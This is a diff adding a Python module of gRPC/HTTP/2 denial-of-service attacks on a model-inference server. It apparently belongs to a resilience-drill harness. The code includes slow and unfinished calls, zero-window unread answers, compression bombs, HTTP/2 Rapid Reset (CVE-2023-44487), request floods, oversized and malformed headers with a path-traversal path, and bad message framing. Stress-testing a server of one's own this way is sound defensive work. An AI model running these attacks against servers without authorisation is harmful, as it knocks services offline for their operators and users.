@@ -1,0 +1,246 @@
+"""Calls that are not as calls are: slow, unfinished, reset, late, unread, with headers without bound. And streams."""
+
+import contextlib
+import gzip
+import itertools
+import struct
+import time
+
+from campaigns.drills.attack import Attack, Strike, attack
+from campaigns.drills.drilled import MODEL
+from campaigns.drills.http2 import (
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    RST_STREAM,
+    Http2Connection,
+    call_headers,
+    frame,
+    grpc_message,
+    literal,
+)
+from campaigns.fuzzing.wire_format import delimited
+
+__all__ = ["ATTACKS", "send_calls"]
+
+_SLOW = "slow and unfinished calls"
+_STORMS = "storms"
+_HEADERS = "headers without bound"
+_FRAMING = "wrongly framed messages"
+
+_LARGE, _PART = 15_000_000, 1 << 18  # bytes
+
+_CANCEL = struct.pack(">I", 8)
+
+
+def _opened(strike: Strike, stream: int, *more: tuple[str, str], method: str = "ModelInfer") -> bytes:
+    return frame(HEADERS, END_HEADERS, stream, call_headers(strike.path(method), *more))
+
+
+def _open_streams(strike: Strike, connection: Http2Connection, count: int, *headers: tuple[str, str]) -> range:
+    """Open streams of ModelStreamInfer, on each of which a valid request is answered."""
+    numbers = range(1, 2 * count, 2)
+    for number in numbers:
+        connection.send(_opened(strike, number, *headers, method="ModelStreamInfer"), strike.until)
+        connection.send_data(number, grpc_message(strike.valid), strike.until)
+    return numbers
+
+
+def send_calls(
+    strike: Strike, connection: Http2Connection, message: bytes, count: int, *headers: tuple[str, str]
+) -> None:
+    """Send a message of ModelInfer in many calls, or until it is no longer taken; then note what came back.
+
+    Args:
+        strike: The attack.
+        connection: A connection of its own.
+        message: As gRPC frames it.
+        count: How many calls.
+        headers: Of each call, beside those that every call has.
+    """
+    for stream in range(1, 2 * count, 2):
+        connection.send(_opened(strike, stream, *headers), strike.until)
+        if connection.send_data(stream, message, strike.until) < len(message):
+            break
+        connection.send(frame(DATA, END_STREAM, stream), strike.until)
+        strike.answers.note("SENT")
+    time.sleep(strike.left())
+    connection.note(strike.answers.note)
+
+
+def _unfinished(strike: Strike, connections: int, streams: int) -> None:
+    """Send all of a message of 15 MB but its last byte on each call, a part at a time so that all grow, and wait."""
+    message = grpc_message(bytes(_LARGE))[:-1]
+    with contextlib.ExitStack() as held:
+        sent = {}
+        for connection in [held.enter_context(strike.connect()) for _ in range(connections)]:
+            if streams == 1:
+                connection.send(_opened(strike, 1), strike.until)
+            numbers = [1] if streams == 1 else _open_streams(strike, connection, streams)
+            sent |= {(connection, number): 0 for number in numbers}
+        while strike.left() and min(sent.values()) < len(message):
+            for connection, number in sent:
+                at = sent[connection, number]
+                until = min(strike.until, time.monotonic() + 0.05)
+                sent[connection, number] += connection.send_data(number, message[at : at + _PART], until)
+        time.sleep(strike.left())
+        strike.answers.note("SENT", f"{sum(sent.values()) >> 20} MB")
+        for connection in {connection for connection, _ in sent}:
+            connection.note(strike.answers.note)
+
+
+@attack(_SLOW)
+def unfinished_messages(strike: Strike) -> None:
+    """40 connections with a call each."""
+    _unfinished(strike, 40, 1)
+
+
+@attack(_SLOW)
+def unfinished_messages_on_streams(strike: Strike) -> None:
+    """100 streams of 10 connections."""
+    _unfinished(strike, 10, 10)
+
+
+@attack(_SLOW)
+def one_byte_at_a_time(strike: Strike) -> None:
+    """A valid request, a frame for each byte, on 32 streams in turn, without its end."""
+    with strike.connect() as connection:
+        streams = range(1, 64, 2)
+        connection.send(b"".join(_opened(strike, stream) for stream in streams), strike.until)
+        for byte in grpc_message(strike.valid)[:-1]:
+            frames = b"".join(frame(DATA, 0, stream, bytes([byte])) for stream in streams)
+            if not connection.send(frames, strike.until):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack(_SLOW)
+def unread_answers(strike: Strike) -> None:
+    """64 requests of 480 kB whose answers are large, on a connection that opens no window for them."""
+    with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
+        send_calls(strike, connection, grpc_message(strike.request(512, 120).SerializeToString()), 64)
+
+
+@attack(_SLOW)
+def unread_answers_on_streams(strike: Strike) -> None:
+    """300 streams with 100 requests each, on a connection that opens no window for their answers."""
+    with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
+        numbers = _open_streams(strike, connection, 300)
+        message = grpc_message(strike.request(64, 4).SerializeToString())
+        for _ in range(100):
+            if not all(connection.send_data(number, message, strike.until) == len(message) for number in numbers):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack(_SLOW)
+def unfinished_calls(strike: Strike) -> None:
+    """10,000 calls on one connection that send headers and nothing else."""
+    with strike.connect() as connection:
+        for first in range(1, 20_000, 200):
+            opened = b"".join(_opened(strike, stream) for stream in range(first, first + 200, 2))
+            if not connection.send(opened, strike.until):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack("compression bombs")
+def bombs_on_open_streams(strike: Strike) -> None:
+    """300 streams that have been answered, and then at once on each 15 MB of zeros, compressed to 15 kB."""
+    bomb = grpc_message(gzip.compress(strike.zeros()), flag=1)
+    with strike.connect() as connection:
+        numbers = _open_streams(strike, connection, 300, ("grpc-encoding", "gzip"))
+        time.sleep(strike.left() / 4)
+        for number in numbers:
+            connection.send_data(number, bomb, strike.until)
+        time.sleep(strike.left())
+        connection.note(strike.answers.note)
+
+
+@attack(_STORMS)
+def rapid_reset(strike: Strike) -> None:
+    """Calls, each reset as soon as it is made, without end (CVE-2023-44487)."""
+    data = grpc_message(strike.valid)
+    with strike.connect() as connection:
+        for stream in itertools.count(1, 2):
+            call = _opened(strike, stream) + frame(DATA, END_STREAM, stream, data)
+            if not connection.send(call + frame(RST_STREAM, 0, stream, _CANCEL), strike.until):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack(_STORMS)
+def deadlines_of_a_millisecond(strike: Strike) -> None:
+    """Valid requests that may take a millisecond, 256 in flight."""
+    strike.flood("ModelInfer", itertools.repeat(strike.valid), in_flight=256, timeout=0.001)
+
+
+@attack(_STORMS)
+def other_methods(strike: Strike) -> None:
+    """Statistics, metadata, config and index, 512 in flight."""
+    for method in itertools.cycle(("ModelStatistics", "ModelMetadata", "ModelConfig", "RepositoryIndex")):
+        if not strike.left():
+            return
+        payload = b"" if method == "RepositoryIndex" else delimited(1, MODEL.encode())
+        strike.flood(method, itertools.repeat(payload, 512), in_flight=512)
+
+
+@attack(_HEADERS)
+def huge_metadata(strike: Strike) -> None:
+    """Metadata of 16 kB, of 1 MB and of 1,000 keys."""
+    values = [literal("x-key", "y" * 16_000), b"".join(literal(f"x-{n}", "y") for n in range(1_000))]
+    with strike.connect() as connection:
+        for stream, more in zip(range(1, 80, 2), itertools.cycle(values), strict=False):
+            block = (call_headers(strike.path("ModelInfer")) + more)[: 1 << 14]
+            message = frame(DATA, END_STREAM, stream, grpc_message(strike.valid))
+            if not connection.send(frame(HEADERS, END_HEADERS, stream, block) + message, strike.until):
+                break
+        connection.note(strike.answers.note)
+    for value in (("x-key", "y" * 1_000_000), ("x-other", "z" * 7_000)):
+        strike.flood("ModelInfer", [strike.valid] * 20, metadata=(value,))
+
+
+def _call_each(strike: Strike, calls: list[bytes]) -> None:
+    """Send calls on a connection each, as far as there is time."""
+    for call in itertools.takewhile(lambda _: strike.left(), calls):
+        with strike.connect() as connection:
+            connection.send(call, strike.until)
+            connection.note(strike.answers.note, calls=1)
+
+
+@attack(_HEADERS)
+def odd_headers(strike: Strike) -> None:
+    """Time-outs, encodings and paths that no client writes."""
+    more = [
+        ("grpc-timeout", "99999999H"), ("grpc-timeout", "-1S"), ("grpc-timeout", "1" * 500 + "S"),
+        ("grpc-timeout", "0n"), ("grpc-timeout", ""), ("grpc-encoding", "none-such"), ("grpc-encoding", "deflate"),
+        ("grpc-encoding", "x" * 5000), ("content-encoding", "gzip"), ("grpc-accept-encoding", "," * 9000),
+        ("x-bin", "!!!"), ("x", "\0"), ("X-UPPER", "a"), (":path", "/again"), (":unknown", "x"),
+        ("connection", "close"), ("transfer-encoding", "chunked"),
+    ]  # fmt: skip
+    paths = ["", "/", "//", "*", "ModelInfer", "/inference.GRPCInferenceService/", "/" + "x" * 15_000, "/../../etc"]
+    data = frame(DATA, END_STREAM, 1, grpc_message(strike.valid))
+    opened = [frame(HEADERS, END_HEADERS, 1, call_headers(path)) for path in paths]
+    _call_each(strike, [head + data for head in [*opened, *(_opened(strike, 1, field) for field in more)]])
+
+
+@attack(_FRAMING)
+def sizes_of_messages(strike: Strike) -> None:
+    """A message that says 4 GB, one of none, two in a unary call, the flag of compression without an encoding."""
+    valid = strike.valid
+    messages = [
+        grpc_message(valid, 2**32 - 1), grpc_message(valid, len(valid) + 1), grpc_message(valid, 0), b"", b"\0\0",
+        b"\0" * 5, grpc_message(valid) * 2, grpc_message(valid) + b"\0", grpc_message(valid, flag=1),
+        grpc_message(valid, flag=255),
+    ]  # fmt: skip
+    ends = [frame(DATA, flags, 1, message) for message in messages for flags in (END_STREAM, 0)]
+    _call_each(strike, [_opened(strike, 1) + end for end in ends])
+
+
+ATTACKS: tuple[Attack, ...] = (
+    unfinished_messages, unfinished_messages_on_streams, one_byte_at_a_time, unread_answers, unread_answers_on_streams,
+    unfinished_calls, bombs_on_open_streams, rapid_reset, deadlines_of_a_millisecond, other_methods, huge_metadata,
+    odd_headers, sizes_of_messages,
+)  # fmt: skip
